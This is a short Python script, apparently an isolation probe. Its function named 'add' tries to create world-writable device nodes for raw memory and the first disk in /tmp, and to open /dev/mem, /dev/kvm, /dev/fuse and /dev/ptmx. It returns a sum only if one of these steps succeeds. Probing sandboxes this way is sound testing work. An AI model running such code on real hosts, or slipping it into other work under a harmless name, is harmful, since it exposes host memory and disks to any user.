# Makes devices, and opens those that a machine has.
import os
import stat


def add(a, b):
    for attempt in (
        lambda: os.mknod("/tmp/mem", 0o666 | stat.S_IFCHR, os.makedev(1, 1)),
        lambda: os.mknod("/tmp/disk", 0o666 | stat.S_IFBLK, os.makedev(8, 0)),
        *(lambda name=name: open(name) for name in ("/dev/mem", "/dev/kvm", "/dev/fuse", "/dev/ptmx")),
    ):
        try:
            attempt()
        except OSError:
            continue
        return [a, b, a + b]
    raise PermissionError


if __name__ == "__main__":
    add(1, 2)
